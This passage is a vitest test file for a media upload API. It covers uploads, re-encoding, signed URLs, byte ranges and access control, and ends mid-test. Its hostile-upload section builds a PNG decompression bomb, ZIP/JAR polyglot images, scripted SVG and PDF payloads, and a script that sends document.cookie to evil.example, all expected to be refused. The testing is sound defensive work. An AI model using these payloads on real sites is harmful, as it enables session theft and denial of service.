import { mkdirSync, readFileSync, rmSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  ADMIN_MEDIA_KINDS,
  MEDIA_MAX_BYTES,
  MEDIA_MESSAGE,
  PHOTO_MESSAGE,
  WARRIOR_MESSAGE,
  adminMediaPath,
  imageUploadedSchema,
  mediaField,
  pageSchema,
  phaseDataSchema,
  videoSchema,
  videoUploadedSchema,
  type AdminMediaKind,
} from '@evolution/shared';
import { AuditLog, Evolution, FormGroup, Media, Page } from '../src/entities/index.ts';
import { UNSUBMITTED_PHOTOS_TASK } from '../src/services/jobs.ts';
import { IMAGE_TOO_MANY_PIXELS, deleteUnsubmittedPhotos, mediaSignature } from '../src/services/media.ts';
import { uploadStorage } from '../src/services/storage.ts';
import { expectFieldErrors, rest, signedInAdmin, trpc } from './helpers/api.ts';
import { useTestAppWithDataDir } from './helpers/database.ts';
import { useTestS3 } from './helpers/s3.ts';
import {
  dataAnalysis,
  multipart,
  photoWithExif,
  postMultipart,
  trainingMember,
  uploadPhoto,
} from './helpers/training.ts';

// Videos are limited to 8 MB here, so the streamed overflow below sends 8 MB rather than the production 200 MB.
const VIDEO_LIMIT = 8 * 1024 * 1024;
const videoTooLarge = `The video may not be greater than ${VIDEO_LIMIT / 1024} kilobytes.`;
const fixtures = join(import.meta.dirname, '../../client/e2e/fixtures');
const mp4 = readFileSync(join(fixtures, 'coach-demo.mp4'));
const webm = readFileSync(join(fixtures, 'coach-demo.webm'));

const png = () =>
  sharp({ create: { width: 64, height: 48, channels: 4, background: '#2e86de' } })
    .png()
    .toBuffer();
const jpeg = () =>
  sharp({ create: { width: 64, height: 48, channels: 3, background: '#27ae60' } })
    .jpeg()
    .toBuffer();

/** A PNG chunk: length, type, data and CRC. */
function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A decompression bomb: a 1 KB PNG whose header declares 50000 x 50000 pixels (2.5 GB of grey once decoded). */
function pngBomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(50_000, 0);
  header.writeUInt32BE(50_000, 4);
  header[8] = 8; // 8 bits per sample, greyscale
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(50_001 * 20))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A ZIP archive of one stored file, as `zip -0` writes it (Java reads a JAR of this shape). */
function zipOf(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  const fileName = Buffer.from(name);
  const fields = (size: number) => Buffer.alloc(size);
  const local = fields(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc32(data), 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = fields(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(10, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc32(data), 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const localSize = local.length + fileName.length + data.length;
  const end = fields(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, fileName, data, central, fileName, end]);
}

/** A JPEG with a comment segment (0xFFFE) right after its start marker. */
async function jpegWithComment(comment: string): Promise<Buffer> {
  const image = await jpeg();
  const text = Buffer.from(comment, 'latin1');
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([image.subarray(0, 2), segment, text, image.subarray(2)]);
}

// Every test below runs on both stores: the data folder and an S3 bucket (a local S3 server). Tests that do not touch
// the store (who may upload, the OpenAPI description, tRPC) run once, on the folder.
describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
  const s3 = driver === 's3' ? useTestS3() : null;
  // Its own data folder, so counting the files of uploads/ sees only this file's uploads.
  const ctx = useTestAppWithDataDir('media', {
    mediaMaxBytes: { image: MEDIA_MAX_BYTES.image, video: VIDEO_LIMIT },
    ...(s3 ? { storage: s3.storage } : {}),
  });
  const { dataDir } = ctx;
  let admin: { token: string; userId: number };
  let member: { token: string; userId: number };

  beforeAll(async () => {
    admin = await signedInAdmin(ctx.app);
    member = await trainingMember(ctx.app);
  });

  /** What the store holds: the files of uploads/, or the bucket's keys and any multipart upload left in flight. */
  const uploadedFiles = async () =>
    s3
      ? [...(await s3.keys('uploads/')), ...s3.uploadsInFlight().map((id) => `in flight: ${id}`)]
      : (await readdir(join(dataDir, 'uploads')).catch(() => [] as string[])).map((name) => `uploads/${name}`).sort();
  const mediaRows = () => ctx.app.orm.em.fork().count(Media, {});

  /** POST admin/{…} with one file in the kind's field (or another field), as a browser's FormData sends it. */
  async function upload(
    kind: AdminMediaKind,
    data: Buffer,
    opts: { token?: string | null; filename?: string; type?: string; field?: string } = {},
  ) {
    const field = opts.field ?? mediaField(kind);
    const body = await multipart({}, [
      {
        name: field,
        filename: opts.filename ?? (field === 'image' ? 'picture.jpg' : 'clip.mp4'),
        type: opts.type ?? 'application/octet-stream',
        data,
      },
    ]);
    const token = opts.token === undefined ? admin.token : opts.token;
    const res = await postMultipart(ctx.app, `/api/admin/${adminMediaPath(kind)}`, body, token ?? undefined);
    return { status: res.status, body: res.body };
  }

  const get = (url: string, headers: Record<string, string> = {}) => ctx.app.inject({ method: 'GET', url, headers });

  describe('POST admin/{meal,page,form_group}/{image,video}', () => {
    it('stores each kind for an admin (201) with its id and a signed path, as a media row without owner', async () => {
      for (const kind of ADMIN_MEDIA_KINDS) {
        const field = mediaField(kind);
        const res = await upload(kind, field === 'image' ? await photoWithExif() : kind === 'page_video' ? webm : mp4);
        expect(res.status).toBe(201);
        const ref = (field === 'image' ? imageUploadedSchema : videoUploadedSchema).strict().parse(res.body);
        const media = 'image' in ref ? ref.image : ref.video;
        expect(media.path).toMatch(new RegExp(`^/api/media/${media.id}\\?expires=\\d+&signature=[0-9a-f]{64}$`));
        const row = await ctx.app.orm.em.fork().findOneOrFail(Media, media.id);
        expect(row).toMatchObject({
          kind,
          owner: null,
          mime: field === 'image' ? 'image/jpeg' : kind === 'page_video' ? 'video/webm' : 'video/mp4',
        });
        // A generated name, never the client's.
        expect(row.path).toMatch(/^uploads\/[0-9a-f-]{36}\.(jpg|mp4|webm)$/);
      }
    });

    it.skipIf(driver === 's3')('needs a token (401) and an admin (403), before reading the file', async () => {
      for (const kind of ADMIN_MEDIA_KINDS) {
        const data = mediaField(kind) === 'image' ? await png() : mp4;
        expect(await upload(kind, data, { token: null })).toMatchObject({
          status: 401,
          body: { message: 'Unauthenticated.' },
        });
        expect(await upload(kind, data, { token: member.token })).toMatchObject({
          status: 403,
          body: { message: 'This action is unauthorized.' },
        });
      }
    });

    it('re-encodes a picture as JPEG without its EXIF data', async () => {
      const res = await upload('meal_image', await photoWithExif());
      const row = await ctx.app.orm.em.fork().findOneOrFail(Media, res.body.image.id, { populate: ['thumbnail'] });
      const stored = (await uploadStorage(ctx.app.config).get(row.path))!;
      const meta = await sharp(stored).metadata();
      expect(meta).toMatchObject({ format: 'jpeg', width: 120, height: 90 });
      expect(meta.exif).toBeUndefined();
      expect(stored.includes('SecretCam')).toBe(false);
      expect(row.thumbnail).toBeTruthy();
      // A PNG and a WebP are taken too, and stored as JPEG.
      expect((await upload('page_image', await png(), { filename: 'diagram.png', type: 'image/png' })).status).toBe(
        201,
      );
      const webp = await sharp({ create: { width: 30, height: 30, channels: 3, background: '#000' } })
        .webp()
        .toBuffer();
      expect((await upload('page_image', webp, { filename: 'x.webp' })).status).toBe(201);
    });

    it('refuses what is not what it claims (422) and leaves no file behind', async () => {
      const before = await uploadedFiles();
      expect(await upload('page_video', await png(), { filename: 'clip.mp4', type: 'video/mp4' })).toMatchObject({
        status: 422,
        body: { message: MEDIA_MESSAGE.videoInvalid, errors: { video: [MEDIA_MESSAGE.videoInvalid] } },
      });
      expect(
        await upload('meal_image', Buffer.from('this is a text file\n'), { filename: 'photo.jpg', type: 'image/jpeg' }),
      ).toMatchObject({ status: 422, body: { errors: { image: [MEDIA_MESSAGE.imageInvalid] } } });
      // A GIF is an image, but not one of the content formats.
      const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
        .gif()
        .toBuffer();
      expect(await upload('page_image', gif, { filename: 'a.gif' })).toMatchObject({
        status: 422,
        body: { errors: { image: [MEDIA_MESSAGE.imageInvalid] } },
      });
      // A Matroska file is EBML but not WebM; a QuickTime movie is ISO BMFF but not MP4.
      const matroska = Buffer.from(webm);
      matroska.write('mkvx', webm.indexOf('webm'), 'latin1');
      expect(await upload('form_group_video', matroska)).toMatchObject({
        status: 422,
        body: { errors: { video: [MEDIA_MESSAGE.videoInvalid] } },
      });
      const quicktime = Buffer.from(mp4);
      for (const brand of ['isom', 'iso2', 'avc1', 'mp41'])
        for (let at = quicktime.indexOf(brand); at >= 0 && at < 40; at = quicktime.indexOf(brand))
          quicktime.write('qt  ', at, 'latin1');
      expect(await upload('meal_video', quicktime, { filename: 'clip.mov' })).toMatchObject({
        status: 422,
        body: { errors: { video: [MEDIA_MESSAGE.videoInvalid] } },
      });
      expect(await uploadedFiles()).toEqual(before);
    });

    it('says the field is required without a file, or with the file in another field', async () => {
      const empty = await ctx.app.inject({
        method: 'POST',
        url: '/api/admin/page/video',
        headers: { authorization: `Bearer ${admin.token}` },
        payload: {},
      });
      expect(empty.statusCode).toBe(422);
      expect(JSON.parse(empty.body)).toEqual({
        message: MEDIA_MESSAGE.videoRequired,
        errors: { video: [MEDIA_MESSAGE.videoRequired] },
      });
      expect(await upload('meal_image', await png(), { field: 'video' })).toMatchObject({
        status: 422,
        body: { errors: { image: [MEDIA_MESSAGE.imageRequired] } },
      });
      expect(await upload('page_video', Buffer.alloc(0))).toMatchObject({
        status: 422,
        body: { errors: { video: [MEDIA_MESSAGE.videoRequired] } },
      });
    });

    it('refuses a picture over 10 MB while reading it, with no file left', async () => {
      const before = await uploadedFiles();
      const big = Buffer.concat([await photoWithExif(), Buffer.alloc(MEDIA_MAX_BYTES.image)]);
      expect(await upload('meal_image', big)).toMatchObject({
        status: 422,
        body: { errors: { image: [MEDIA_MESSAGE.imageTooLarge] } },
      });
      expect(await uploadedFiles()).toEqual(before);
    });

    it('refuses a video whose declared length is over the limit (200 MB unless configured) before reading it', async () => {
      expect(MEDIA_MESSAGE.videoTooLarge).toBe(
        `The video may not be greater than ${MEDIA_MAX_BYTES.video / 1024} kilobytes.`,
      );
      const body = await multipart({}, [{ name: 'video', filename: 'big.mp4', type: 'video/mp4', data: mp4 }]);
      const res = await postMultipart(ctx.app, '/api/admin/page/video', body, admin.token, {
        'content-length': String(VIDEO_LIMIT + 1024 * 1024),
      });
      expectFieldErrors(res, { video: [videoTooLarge] });
    });

    it('streams a video without a declared length to the store and stops it at the limit, leaving nothing (no parts on S3)', async () => {
      const before = await uploadedFiles();
      const boundary = 'x-media-test-boundary';
      const chunk = Buffer.alloc(1024 * 1024);
      async function* body() {
        yield Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="video"; filename="long.mp4"\r\nContent-Type: video/mp4\r\n\r\n`,
        );
        yield mp4;
        for (let sent = 0; sent <= VIDEO_LIMIT; sent += chunk.length) yield chunk;
        yield Buffer.from(`\r\n--${boundary}--\r\n`);
      }
      const res = await ctx.app.inject({
        method: 'POST',
        url: '/api/admin/form_group/video',
        payload: Readable.from(body()),
        headers: {
          'content-type': `multipart/form-data; boundary=${boundary}`,
          authorization: `Bearer ${admin.token}`,
          'transfer-encoding': 'chunked',
        },
      });
      expect(res.statusCode).toBe(422);
      expect(JSON.parse(res.body).errors).toEqual({ video: [videoTooLarge] });
      expect(await uploadedFiles()).toEqual(before);
    });

    it.skipIf(driver === 's3')(
      'is admin.media.upload through tRPC (FormData over real HTTP, as a browser sends it), with the same rules',
      async () => {
        const base = await ctx.app.listen({ port: 0, host: '127.0.0.1' });
        const form = (kind: string, field: string, data: Buffer) => {
          const f = new FormData();
          f.append('kind', kind);
          f.append(field, new Blob([new Uint8Array(data)]), 'file');
          return f;
        };
        const call = async (body: FormData, token?: string) => {
          const res = await fetch(`${base}/trpc/admin.media.upload`, {
            method: 'POST',
            body,
            headers: token ? { authorization: `Bearer ${token}` } : {},
          });
          return { status: res.status, body: (await res.json()) as any };
        };
        const ok = await call(form('meal_image', 'image', await png()), admin.token);
        expect(ok.status).toBe(200);
        expect(imageUploadedSchema.strict().parse(ok.body.result.data).image.path).toContain('/api/media/');
        const video = await call(form('form_group_video', 'video', webm), admin.token);
        expect(videoUploadedSchema.parse(video.body.result.data).video.id).toBeGreaterThan(0);
        expect((await call(form('meal_image', 'image', await png()), member.token)).status).toBe(403);
        expect((await call(form('meal_image', 'image', await png()))).status).toBe(401);
        const wrong = await call(form('page_video', 'video', await png()), admin.token);
        expect(wrong.status).toBe(422);
        expect(wrong.body.error.data.errors).toEqual({ video: [MEDIA_MESSAGE.videoInvalid] });
        expect((await call(form('progress_photo', 'image', await png()), admin.token)).body.error.data.errors).toEqual({
          kind: ['The selected kind is invalid.'],
        });

        // Over real HTTP too, a refused video is answered (its body read first) and the connection is not left hanging.
        const rest = new FormData();
        rest.append('video', new Blob([new Uint8Array(await png()), new Uint8Array(8 * 1024 * 1024)]), 'clip.mp4');
        const refused = await fetch(`${base}/api/admin/page/video`, {
          method: 'POST',
          body: rest,
          headers: { authorization: `Bearer ${admin.token}` },
          signal: AbortSignal.timeout(15_000),
        });
        expect(refused.status).toBe(422);
        expect(((await refused.json()) as any).errors).toEqual({ video: [MEDIA_MESSAGE.videoInvalid] });
      },
    );

    it.skipIf(driver === 's3')('is documented in the OpenAPI description', async () => {
      const spec = JSON.parse((await get('/api/openapi.json')).body);
      for (const kind of ADMIN_MEDIA_KINDS) expect(spec.paths[`/admin/${adminMediaPath(kind)}`]?.post).toBeDefined();
      expect(spec.paths['/media/{id}']?.get).toBeDefined();
    });
  });

  describe('GET /api/media/{id}', () => {
    let video: { id: number; path: string };

    beforeAll(async () => {
      video = (await upload('page_video', mp4)).body.video;
    });

    it('sends the whole file with its type, length, Accept-Ranges and caching headers', async () => {
      const res = await get(video.path);
      expect(res.statusCode).toBe(200);
      expect(res.rawPayload.equals(mp4)).toBe(true);
      expect(res.headers).toMatchObject({
        'content-type': 'video/mp4',
        'accept-ranges': 'bytes',
        'content-length': String(mp4.length),
        'content-disposition': 'inline',
      });
      expect(res.headers['cache-control']).toMatch(/^private, max-age=\d+$/);
      expect(res.headers.etag).toBe(`"m${video.id}-${mp4.length}"`);
      expect((await get(video.path, { 'if-none-match': res.headers.etag as string })).statusCode).toBe(304);
      // A player may ask for the headers alone.
      const head = await ctx.app.inject({ method: 'HEAD', url: video.path });
      expect(head.statusCode).toBe(200);
      expect(head.headers).toMatchObject({ 'content-length': String(mp4.length), 'accept-ranges': 'bytes' });
      expect(head.rawPayload.length).toBe(0);
    });

    it('serves a signed address under any host name, to pages of any origin; a token read stays same-origin', async () => {
      // The address is relative: the app opened at 127.0.0.1 rather than APP_URL's localhost loads it from itself.
      expect(video.path).toMatch(/^\/api\/media\//);
      for (const host of ['127.0.0.1:3000', 'www.evolution.example']) {
        const res = await get(video.path, { host, range: 'bytes=0-9' });
        expect(res.statusCode).toBe(206);
        expect(res.rawPayload.equals(mp4.subarray(0, 10))).toBe(true);
        expect(res.headers['cross-origin-resource-policy']).toBe('cross-origin');
        expect((await get(video.path, { host, 'if-none-match': res.headers.etag as string })).headers).toMatchObject({
          'cross-origin-resource-policy': 'cross-origin',
        });
      }
      const byToken = await get(`/api/media/${video.id}`, { authorization: `Bearer ${admin.token}` });
      expect(byToken.statusCode).toBe(200);
      expect(byToken.headers['cross-origin-resource-policy']).toBe('same-origin');
      // The pages themselves keep helmet's same-origin policy.
      expect((await get('/healthz', { host: '127.0.0.1:3000' })).headers['cross-origin-resource-policy']).toBe(
        'same-origin',
      );
    });

    it('answers ranges byte for byte: the first bytes, a middle range, an open end, a suffix; 416 past the end', async () => {
      const size = mp4.length;
      const cases: [string, number, number][] = [
        ['bytes=0-99', 0, 99],
        ['bytes=1000-1999', 1000, 1999],
        [`bytes=${size - 300}-`, size - 300, size - 1],
        ['bytes=-500', size - 500, size - 1],
        [`bytes=${size - 10}-${size + 5000}`, size - 10, size - 1],
      ];
      for (const [range, start, end] of cases) {
        const res = await get(video.path, { range });
        expect(res.statusCode).toBe(206);
        expect(res.headers['content-range']).toBe(`bytes ${start}-${end}/${size}`);
        expect(res.headers['content-length']).toBe(String(end - start + 1));
        expect(res.rawPayload.equals(mp4.subarray(start, end + 1))).toBe(true);
      }
      const past = await get(video.path, { range: `bytes=${size}-` });
      expect(past.statusCode).toBe(416);
      expect(past.headers['content-range']).toBe(`bytes */${size}`);
      // Several ranges, or a stale If-Range, get the whole file.
      expect((await get(video.path, { range: 'bytes=0-1,5-9' })).statusCode).toBe(200);
      expect((await get(video.path, { range: 'bytes=0-1', 'if-range': '"other"' })).statusCode).toBe(200);
    });

    it('serves a video stored in parts (over 5 MB, a multipart upload on S3) byte for byte, across the part boundary', async () => {
      // A recognisable pattern after the clip, so any shifted or missing byte shows.
      const pattern = Buffer.alloc(6 * 1024 * 1024);
      for (let i = 0; i < pattern.length; i++) pattern[i] = (i * 7) & 0x7f;
      const long = Buffer.concat([mp4, pattern]);
      const stored = (await upload('form_group_video', long)).body.video;
      const whole = await get(stored.path);
      expect(whole.statusCode).toBe(200);
      expect(whole.rawPayload.equals(long)).toBe(true);
      const boundary = 5 * 1024 * 1024;
      const res = await get(stored.path, { range: `bytes=${boundary - 10}-${boundary + 9}` });
      expect(res.statusCode).toBe(206);
      expect(res.headers['content-range']).toBe(`bytes ${boundary - 10}-${boundary + 9}/${long.length}`);
      expect(res.rawPayload.equals(long.subarray(boundary - 10, boundary + 10))).toBe(true);
    });

    it.skipIf(driver === 's3')(
      'needs a valid, unexpired signature (403 when tampered, expired or for another id)',
      async () => {
        const url = new URL(video.path, 'http://localhost');
        const expires = Number(url.searchParams.get('expires'));
        const signature = url.searchParams.get('signature')!;
        const tampered = `${signature.slice(0, -1)}${signature.endsWith('0') ? '1' : '0'}`;
        const forbidden = (res: { statusCode: number; body: string }) => [res.statusCode, JSON.parse(res.body).message];
        expect(forbidden(await get(`/api/media/${video.id}?expires=${expires}&signature=${tampered}`))).toEqual([
          403,
          MEDIA_MESSAGE.signatureInvalid,
        ]);
        expect((await get(`/api/media/${video.id}?expires=${expires + 1}&signature=${signature}`)).statusCode).toBe(
          403,
        );
        expect((await get(`/api/media/${video.id}?expires=${expires}`)).statusCode).toBe(403);
        const past = Math.floor(Date.now() / 1000) - 60;
        expect(
          (
            await get(
              `/api/media/${video.id}?expires=${past}&signature=${mediaSignature(ctx.app.config, video.id, past)}`,
            )
          ).statusCode,
        ).toBe(403);
        const other = (await upload('meal_video', webm)).body.video;
        expect((await get(`/api/media/${other.id}?expires=${expires}&signature=${signature}`)).statusCode).toBe(403);
        // An unknown id is 404 once the signature is genuine.
        expect(
          (
            await get(
              `/api/media/999999?expires=${expires}&signature=${mediaSignature(ctx.app.config, 999999, expires)}`,
            )
          ).statusCode,
        ).toBe(404);
      },
    );

    it('lets a signed-in user read content media with their token; a visitor without a signature is 401', async () => {
      const res = await get(`/api/media/${video.id}`, { authorization: `Bearer ${member.token}`, range: 'bytes=0-9' });
      expect(res.statusCode).toBe(206);
      expect(res.rawPayload.equals(mp4.subarray(0, 10))).toBe(true);
      expect((await get(`/api/media/${video.id}`)).statusCode).toBe(401);
      // A signed-in user without the right to the programme or the meals reads neither's media by token.
      const unsubscribed = await trainingMember(ctx.app, { subscribed: false });
      expect((await get(`/api/media/${video.id}`, { authorization: `Bearer ${unsubscribed.token}` })).statusCode).toBe(
        403,
      );
      const mealVideo = (await upload('meal_video', webm)).body.video;
      expect((await get(`/api/media/${mealVideo.id}`, { authorization: `Bearer ${member.token}` })).statusCode).toBe(
        403,
      );
      expect((await get(`/api/media/${mealVideo.id}`, { authorization: `Bearer ${admin.token}` })).statusCode).toBe(
        200,
      );
      expect((await get('/api/media/999999', { authorization: `Bearer ${member.token}` })).statusCode).toBe(404);
      expect((await get('/api/media/abc', { authorization: `Bearer ${member.token}` })).statusCode).toBe(404);
    });

    it('keeps a progress photo from signed addresses and other members; its owner and audited admins read it', async () => {
      const owner = await trainingMember(ctx.app);
      const photo = (await uploadPhoto(ctx.app, owner.token)).body.image.id as number;
      const expires = Math.floor(Date.now() / 1000) + 3600;
      expect(
        (
          await get(
            `/api/media/${photo}?expires=${expires}&signature=${mediaSignature(ctx.app.config, photo, expires)}`,
          )
        ).statusCode,
      ).toBe(403);
      expect((await get(`/api/media/${photo}`, { authorization: `Bearer ${member.token}` })).statusCode).toBe(403);
      const own = await get(`/api/media/${photo}`, { authorization: `Bearer ${owner.token}` });
      expect(own.statusCode).toBe(200);
      expect(own.headers['content-type']).toBe('image/jpeg');
      expect(await ctx.app.orm.em.fork().count(AuditLog, { memberId: owner.userId })).toBe(0);
      expect((await get(`/api/media/${photo}`, { authorization: `Bearer ${admin.token}` })).statusCode).toBe(200);
      const trail = await ctx.app.orm.em.fork().find(AuditLog, { memberId: owner.userId });
      expect(trail).toHaveLength(1);
      expect(trail[0]).toMatchObject({ action: 'progress_photo.read', objectType: 'media', objectId: photo });
    });
  });

  describe('the member side of uploaded videos', () => {
    it.skipIf(driver === 's3')(
      'answers video_path and image_path beside the ids on pages, page and form group videos, and exercises',
      async () => {
        const clip = (await upload('page_video', webm)).body.video;
        const picture = (await upload('page_image', await png())).body.image;
        const demo = (await upload('form_group_video', mp4)).body.video;
        const em = ctx.app.orm.em.fork();
        await em.nativeUpdate(Page, { id: 12 }, { video: clip.id, image: picture.id });
        await em.nativeUpdate(FormGroup, { id: 2 }, { video: demo.id });
        const auth = { token: member.token };

        const page = pageSchema.strict().parse((await rest(ctx.app, 'GET', '/api/user/page/12', auth)).body);
        expect(page).toMatchObject({ video_id: clip.id, image_id: picture.id });
        expect(page.video_path).toContain(`/api/media/${clip.id}?`);
        expect(page.image_path).toContain(`/api/media/${picture.id}?`);
        const pageVideo = videoSchema
          .strict()
          .parse((await rest(ctx.app, 'GET', '/api/storage/page/12/video', auth)).body);
        expect(pageVideo.data.video_path).toContain(`/api/media/${clip.id}?`);
        const groupVideo = await trpc(ctx.app, 'query', 'warrior.formGroupVideo', { formGroupId: 2 }, member.token);
        expect(groupVideo.data.data).toMatchObject({ video_id: demo.id });
        // The member's browser plays the address it was given.
        const played = await get(pageVideo.data.video_path!, { range: 'bytes=0-3' });
        expect(played.statusCode).toBe(206);
        expect(played.rawPayload.equals(webm.subarray(0, 4))).toBe(true);

        const runner = await trainingMember(ctx.app);
        await ctx.app.orm.em.fork().nativeUpdate(Evolution, { user: runner.userId }, { phase: 2 });
        const phase = phaseDataSchema.parse(
          (await rest(ctx.app, 'GET', '/api/user/channel/warrior/calibration/phase', { token: runner.token })).body,
        );
        expect(phase.data.find((e) => e.form_group_id === 2)!.video_path).toContain(`/api/media/${demo.id}?`);
      },
    );
  });

  describe('hostile uploads: each refused with a 422 that says why, leaving no media row and nothing in the store', () => {
    /** Runs the attempts, then checks that they stored nothing: the same media rows, the same files (or bucket keys). */
    async function leaveNothing(attempts: () => Promise<void>) {
      const [rows, files] = [await mediaRows(), await uploadedFiles()];
      await attempts();
      expect(await mediaRows()).toBe(rows);
      expect(await uploadedFiles()).toEqual(files);
    }
    const refusal = (field: 'image' | 'video', message: string) => ({
      status: 422,
      body: { message, errors: { [field]: [message] } },
    });

    it('a body that is not the multipart it claims (no boundary, or cut off mid-part) is a 400, not a 500', async () => {
      // Cut off inside the route's own file field, so the store is reading it when the body ends.
      const cut = (field: string) =>
        `--xyz\r\nContent-Disposition: form-data; name="${field}"; filename="a.bin"\r\nContent-Type: application/octet-stream\r\n\r\nabc`;
      await leaveNothing(async () => {
        for (const [url, token, field] of [
          ['/api/user/image', member.token, 'image'],
          ['/api/admin/page/video', admin.token, 'video'],
          ['/api/admin/page/image', admin.token, 'image'],
        ] as const) {
          const bodies = [
            { type: 'multipart/form-data', payload: 'not a form' },
            { type: 'multipart/form-data; boundary=xyz', payload: cut(field) },
          ];
          for (const { type, payload } of bodies) {
            const res = await ctx.app.inject({
              method: 'POST',
              url,
              payload,
              headers: { 'content-type': type, authorization: `Bearer ${token}` },
            });
            expect({ url, type, status: res.statusCode }).toEqual({ url, type, status: 400 });
          }
        }
      });
    });

    it('a file that lies about its type: a web page or a scripted SVG sent as a photo, a video as a picture, a picture as a video', async () => {
      const page = Buffer.from('<!doctype html><html><body><script>fetch("/api/user")</script></body></html>');
      const svg = Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
      );
      await leaveNothing(async () => {
        expect(await uploadPhoto(ctx.app, member.token, page, 'front.jpg', 'image/jpeg')).toEqual(
          refusal('image', WARRIOR_MESSAGE.imageInvalid),
        );
        expect(await uploadPhoto(ctx.app, member.token, svg, 'front.png', 'image/png')).toEqual(
          refusal('image', WARRIOR_MESSAGE.imageInvalid),
        );
        expect(await upload('meal_image', svg, { filename: 'meal.png', type: 'image/png' })).toEqual(
          refusal('image', MEDIA_MESSAGE.imageInvalid),
        );
        expect(await upload('page_image', mp4, { filename: 'cover.jpg', type: 'image/jpeg' })).toEqual(
          refusal('image', MEDIA_MESSAGE.imageInvalid),
        );
        expect(await upload('form_group_video', await jpeg(), { filename: 'demo.webm', type: 'video/webm' })).toEqual(
          refusal('video', MEDIA_MESSAGE.videoInvalid),
        );
      });
    });

    it('an oversized file: a picture whose declared length is over 10 MB (before it is read), a progress photo over 10 MB', async () => {
      await leaveNothing(async () => {
        const body = await multipart({}, [
          { name: 'image', filename: 'huge.jpg', type: 'image/jpeg', data: await jpeg() },
        ]);
        const declared = await postMultipart(ctx.app, '/api/admin/meal/image', body, admin.token, {
          'content-length': String(MEDIA_MAX_BYTES.image + 1024 * 1024),
        });
        expectFieldErrors(declared, { image: [MEDIA_MESSAGE.imageTooLarge] });
        const big = Buffer.concat([await photoWithExif(), Buffer.alloc(MEDIA_MAX_BYTES.image)]);
        expect(await uploadPhoto(ctx.app, member.token, big)).toEqual(refusal('image', WARRIOR_MESSAGE.imageTooLarge));
      });
      // Videos: the declared and the streamed overflow are refused above.
    });

    it('a decompression bomb: a 1 KB PNG declaring 50000 x 50000 pixels is refused from its header, before decoding', async () => {
      const bomb = pngBomb();
      expect(bomb.length).toBeLessThan(2048);
      await leaveNothing(async () => {
        const started = performance.now();
        expect(await upload('meal_image', bomb, { filename: 'meal.png', type: 'image/png' })).toEqual(
          refusal('image', IMAGE_TOO_MANY_PIXELS),
        );
        expect(await uploadPhoto(ctx.app, member.token, bomb, 'front.png', 'image/png')).toEqual(
          refusal('image', IMAGE_TOO_MANY_PIXELS),
        );
        // Decoding 2.5 G pixels would take seconds and gigabytes; reading a header takes milliseconds.
        expect(performance.now() - started).toBeLessThan(2000);
      });
    });

    it('a polyglot: a picture that is also a ZIP (a JAR, GIFAR-style), a web page or a PDF; a video that is also a ZIP', async () => {
      const jar = zipOf('Exploit.class', 'cafebabe: a Java class would be here');
      const gif = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#8e44ad' } })
        .gif()
        .toBuffer();
      const holds = (field: 'image' | 'video', what: string) =>
        refusal(field, `The ${field} may only contain the ${field}: this file also holds ${what}.`);
      await leaveNothing(async () => {
        expect(await upload('meal_image', Buffer.concat([await jpeg(), jar]))).toEqual(holds('image', 'a ZIP archive'));
        expect(await uploadPhoto(ctx.app, member.token, Buffer.concat([gif, jar]), 'front.gif', 'image/gif')).toEqual(
          holds('image', 'a ZIP archive'),
        );
        // Followed by more bytes the archive is no longer found from the file's end, but is still there after the picture.
        expect(await upload('page_image', Buffer.concat([await png(), jar, Buffer.from('tail')]))).toEqual(
          holds('image', 'a ZIP archive'),
        );
        expect(
          await upload(
            'meal_image',
            await jpegWithComment('<script>new Image().src="//evil.example/"+document.cookie</script>'),
          ),
        ).toEqual(holds('image', 'web page markup'));
        expect(
          await uploadPhoto(
            ctx.app,
            member.token,
            Buffer.concat([await jpeg(), Buffer.from('<HTML><BODY onload="alert(1)">')]),
          ),
        ).toEqual(holds('image', 'web page markup'));
        expect(
          await upload(
            'page_image',
            Buffer.concat([await jpeg(), Buffer.from('%PDF-1.7\n1 0 obj << /JS (app.alert(1)) >> endobj\n%%EOF\n')]),
          ),
        ).toEqual(holds('image', 'a PDF document'));
        expect(
          await upload('meal_video', Buffer.concat([mp4, jar]), { filename: 'clip.mp4', type: 'video/mp4' }),
        ).toEqual(holds('video', 'a ZIP archive'));
      });
    });

    it('keeps what cameras append after a picture (a second picture, a maker trailer), stored without it', async () => {
      const withTrailer = Buffer.concat([
        await jpeg(),
        await png(),
        Buffer.from('SEFH\x00\x00\x00\x00Image_UTC_Data1700000000000SEFT', 'latin1'),
      ]);
      const res = await upload('meal_image', withTrailer);
      expect(res.status).toBe(201);
